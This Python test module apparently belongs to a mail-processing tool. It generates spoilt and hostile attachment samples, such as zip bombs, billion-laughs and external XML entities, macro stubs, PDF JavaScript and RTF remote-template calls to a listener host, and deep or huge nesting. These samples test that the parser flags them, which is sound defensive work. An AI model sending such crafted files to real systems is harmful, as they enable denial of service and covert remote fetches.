"""
What a form may be spoilt by, each in every format where it makes sense, and the flag that must be raised.

Empty, cut off, corrupt, locked, a bomb, entities, macros, something elsewhere, 10,000 of something, 500 deep.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass

from mailbot.cli.demo import forms
from tests.hostile.cases import FORM, LISTENER, attached, letter, mixed, part
from tests.hostile.making import (
    DOCX,
    LAUGHS,
    ZEROS,
    bomb,
    calling_docx,
    doctype,
    docx_of,
    double_flate,
    locked_pdf,
    odt,
    odt_form,
    stored_first,
    with_members,
)
from tests.hostile.structure import forwarded, nest
from tests.letters import packed
from tests.property.samples import form as pdf_form
from tests.unit.parse.readers.building import archive, word_package
from tests.unit.parse.readers.making_ole import compound, outlook, winmail, word97
from tests.unit.parse.readers.making_pdf import Pdf, written

UNREADABLE, LOCKED, MACRO, UNSAFE = "unreadable_part", "encrypted_attachment", "macro", "unsafe_document"
TEXT = forms.as_text(FORM)
DEEP, MANY = 500, 10_000
PARAGRAPH = "<w:p><w:r><w:t>Name: A Mock</w:t></w:r></w:p>"


@dataclass(frozen=True)
class Spoilt:
    """One sample: what was done to what, and what must be said of it."""

    what: str
    file: str
    make: Callable[[], bytes]
    flags: frozenset[str] = frozenset()  # all that a reader raises
    whole: bool = False  # `make` gives everything below the header lines

    @property
    def name(self) -> str:
        """For people, and for the address of its sender."""
        return f"{self.what} {self.file}"

    def raw(self) -> bytes:
        """The message."""
        return letter(self.name, self.make()) if self.whole else attached(self.name, self.file, self.make())


def samples() -> list[Spoilt]:
    """All of them."""
    return [
        *_empty(), *_cut(), *_corrupt(), *_locked(), *_bombs(), *_entities(), *_macros(), *_elsewhere(),
        *_many(), *_deep(),
    ]  # fmt: skip


def _sample(what: str, file: str, data: bytes | Callable[[], bytes], *flags: str) -> Spoilt:
    return Spoilt(what, file, data if callable(data) else lambda: data, frozenset(flags))


def good() -> dict[str, bytes]:
    """A form in every format, as an honest program writes it."""
    html = forms.as_html(FORM).encode()
    text = TEXT.replace("\n", "\r\n").encode()
    rtf = b"{\\rtf1\\ansi " + TEXT.replace("\n", "\\par\n").encode("ascii", "replace") + b"}"
    inner = b"From: A <a@inner.example>\r\nSubject: x\r\nMIME-Version: 1.0\r\n" + mixed(
        part("text/plain", text), boundary="=i"
    )
    return {
        "form.docx": DOCX, "form.odt": odt_form(), "form.rtf": rtf, "form.doc": word97([(TEXT, False)]),
        "form.pdf": pdf_form(), "form.html": html, "form.txt": text, "form.zip": archive({"form.docx": DOCX}),
        "form.msg": outlook({0x37: "Subject", 0x1000: TEXT}, [{0x3707: "form.docx", 0x3701: DOCX}]),
        "winmail.dat": winmail(b"Body", [(b"form.docx", DOCX)]), "form.eml": inner,
    }  # fmt: skip


def _empty() -> Iterator[Spoilt]:
    for file in good():
        yield _sample("empty", file, b"", UNREADABLE)


def _cut() -> Iterator[Spoilt]:
    """Half of it. What is text is read as far as it goes."""
    for file, data in good().items():
        readable = file in ("form.rtf", "form.html", "form.txt", "form.eml")
        yield _sample("cut", file, data[: len(data) // 2], *([] if readable else [UNREADABLE]))


def _corrupt() -> Iterator[Spoilt]:
    """The first bytes are right, and the rest is noise."""
    noise = bytes(byte * 167 % 256 for byte in range(4000))
    heads = {"form.pdf": 9, "form.doc": 512, "form.msg": 512, "winmail.dat": 12}
    for file in ("form.docx", "form.odt", "form.zip", "form.doc", "form.msg", "form.pdf", "winmail.dat"):
        yield _sample("corrupt", file, good()[file][: heads.get(file, 60)] + noise, UNREADABLE)
    yield _sample("corrupt", "broken.docx", docx_of("<w:document"), UNREADABLE)
    yield _sample("corrupt", "broken.odt", odt("<text:p>"), UNREADABLE)


def _locked() -> Iterator[Spoilt]:
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/>'
        "</manifest:file-entry></manifest:manifest>"
    )
    office = compound({"EncryptionInfo": bytes(200), "EncryptedPackage": bytes(5000)})
    yield _sample("locked", "form.docx", office, LOCKED)
    yield _sample("locked", "form.odt", with_members(odt_form(), {"META-INF/manifest.xml": manifest}), LOCKED)
    yield _sample("locked", "form.doc", word97([(TEXT, False)], flags=0x0300), LOCKED)
    yield _sample("locked", "form.pdf", locked_pdf(), LOCKED)
    yield _sample("locked", "form.zip", packed({"form.docx": DOCX}, locked=True), LOCKED)
    yield _sample("locked", "in a.zip", archive({"form.docx": office}), LOCKED)
    yield _sample("locked", "form.msg", outlook({0x1000: "x"}, [{0x3707: "f.docx", 0x3701: office}]), LOCKED)
    yield _sample("locked", "winmail.dat", winmail(b"x", [(b"f.docx", office)]), LOCKED)
    yield _sample("locked", "form.7z", b"7z\xbc\xaf\x27\x1c" + bytes(400), UNREADABLE)  # nobody can tell


def _bombs() -> Iterator[Spoilt]:
    yield _sample("bomb", "form.docx", bomb, UNREADABLE)
    yield _sample("bomb", "form.odt", lambda: odt("<text:p>" + " " * (100 << 20) + "</text:p>"), UNREADABLE)
    yield _sample("bomb", "form.zip", lambda: archive({"a.txt": ZEROS * 100}), UNREADABLE)
    yield _sample("bomb", "form.pdf", double_flate, UNREADABLE)
    yield _sample(
        "bomb", "form.msg", lambda: outlook({0x1000: "x"}, [{0x3707: "a.docx", 0x3701: bomb()}]), UNREADABLE
    )
    yield _sample("bomb", "winmail.dat", lambda: winmail(b"x", [(b"a.docx", bomb())]), UNREADABLE)


def _entities() -> Iterator[Spoilt]:
    xfa = doctype(LAUGHS, "&l9;").encode()
    form = Pdf(form="/XFA 900 0 R").text(50, 100, "Name: A Mock")
    form.extra[900] = b"<</Length %d>>stream\n%s\nendstream" % (len(xfa), xfa)
    yield _sample("laughs", "form.docx", docx_of(doctype(LAUGHS, "&l9;")), UNREADABLE)
    yield _sample("laughs", "form.odt", odt("<text:p>&l9;</text:p>", f"<!DOCTYPE d [{LAUGHS}]>"), UNREADABLE)
    yield _sample("laughs", "form.pdf", form.bytes(), UNREADABLE)
    elsewhere = f'<!ENTITY a SYSTEM "{LISTENER}">'
    yield _sample("entity", "form.docx", docx_of(doctype(elsewhere)), UNREADABLE)
    yield _sample(
        "entity", "form.odt", odt("<text:p>&a;</text:p>", f"<!DOCTYPE d [{elsewhere}]>"), UNREADABLE
    )


def _macros() -> Iterator[Spoilt]:
    project = b"\xd0\xcf\x11\xe0" + bytes(600)
    basic = {"Basic/Standard/Module1.xml": "<module/>"}
    yield _sample("macro", "form.docm", with_members(DOCX, {"word/vbaProject.bin": project}), MACRO)
    yield _sample("macro", "form.doc", word97([(TEXT, False)], more={"Macros/VBA/dir": b"x"}), MACRO)
    yield _sample("macro", "form.odt", stored_first(with_members(odt_form(), basic)), MACRO)


def _elsewhere() -> Iterator[Spoilt]:
    """Whatever the program that opens it would fetch or start."""
    script = f"/OpenAction<</S/JavaScript/JS(app.launchURL\\('{LISTENER}'\\))>>"
    image = f'<text:p><draw:frame><draw:object xlink:href="{LISTENER}/a"/></draw:frame>Name: A Mock</text:p>'
    template = b"{\\rtf1\\ansi{\\*\\template " + LISTENER.encode() + b"/a.dotm} Name: A Mock\\par}"
    yield _sample("elsewhere", "form.docx", calling_docx(), UNSAFE)
    yield _sample("elsewhere", "form.odt", stored_first(odt(image)), UNSAFE)
    yield _sample("elsewhere", "form.rtf", template, UNSAFE)
    picture = (
        b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://x.example/a"}{\\fldrslt}} Name: A Mock\\par}'
    )
    yield _sample("elsewhere", "picture.rtf", picture, UNSAFE)
    yield _sample("elsewhere", "form.pdf", Pdf(catalog=script).text(50, 99, "Name: A Mock").bytes(), UNSAFE)


def _many() -> Iterator[Spoilt]:
    """10,000 of what an honest one has a few of."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(MANY))
    pages = {number + 3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>" for number in range(MANY)}
    book = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count %d/Kids[%s]>>" % (MANY, kids)}
    members = {f"word/media/{number}.png": b"" for number in range(MANY)}
    files = [(b"%d.txt" % number, b"x") for number in range(MANY)]
    parts = mixed(*(part("text/plain", b"x", coded=False) for _ in range(MANY)))
    yield Spoilt("many", "parts", lambda: parts, frozenset((UNREADABLE,)), whole=True)
    yield _sample("many", "form.docx", lambda: archive(dict(word_package(PARAGRAPH)) | members), UNREADABLE)
    yield _sample(
        "many", "form.zip", lambda: archive({f"{number}.txt": b"x" for number in range(MANY)}), UNREADABLE
    )
    yield _sample("many", "winmail.dat", lambda: winmail(b"x", files), UNREADABLE)
    yield _sample("many", "form.pdf", lambda: written(book | pages), UNREADABLE)
    yield _sample("many", "long.docx", lambda: docx_of(_body(PARAGRAPH * MANY)))
    yield _sample("many", "long.odt", lambda: odt("<text:p>Name: A Mock</text:p>" * MANY))
    yield _sample("many", "long.html", b"<table>" + b"<tr><td>Name<td>A Mock" * MANY)
    yield _sample("many", "long.rtf", b"{\\rtf1 " + b"{\\b Name}: A Mock\\par " * MANY + b"}")
    yield _sample("many", "long.doc", word97([("Name: A Mock\r" * MANY, True)]))


def _deep() -> Iterator[Spoilt]:
    """500, one in the other."""
    cell = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    table = (
        "<table:table><table:table-row><table:table-cell>",
        "</table:table-cell></table:table-row></table:table>",
    )
    tree: dict[int, bytes] = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    tree |= {n: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (n + 1) for n in range(2, DEEP + 2)}
    tree[DEEP + 2] = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 99 99]>>" % (DEEP + 1)
    yield Spoilt("deep", "parts", lambda: nest(DEEP), frozenset((UNREADABLE,)), whole=True)
    yield Spoilt("deep", "messages", lambda: forwarded(DEEP), frozenset((UNREADABLE,)), whole=True)
    yield _sample(
        "deep", "form.docx", docx_of(_body(cell[0] * DEEP + PARAGRAPH + cell[1] * DEEP)), UNREADABLE
    )
    yield _sample(
        "deep", "form.odt", odt(table[0] * DEEP + "<text:p>x</text:p>" + table[1] * DEEP), UNREADABLE
    )
    yield _sample("deep", "form.html", b"<table><tr><td>" * DEEP + b"Name: A Mock", UNREADABLE)
    yield _sample("deep", "form.rtf", b"{\\rtf1 " + b"{" * DEEP + b"Name: A Mock" + b"}" * DEEP + b"}")
    yield _sample("deep", "form.zip", lambda: _zips(DEEP), UNREADABLE)
    yield _sample("deep", "form.pdf", written(tree), UNREADABLE)
    yield _sample("deep", "quoted.txt", b">" * DEEP + b" Name: A Mock\r\n")


def _body(inside: str) -> str:
    return str(word_package(inside)["word/document.xml"])


def _zips(depth: int) -> bytes:
    data = DOCX
    for _ in range(depth):
        data = archive({"a.zip": data})
    return data
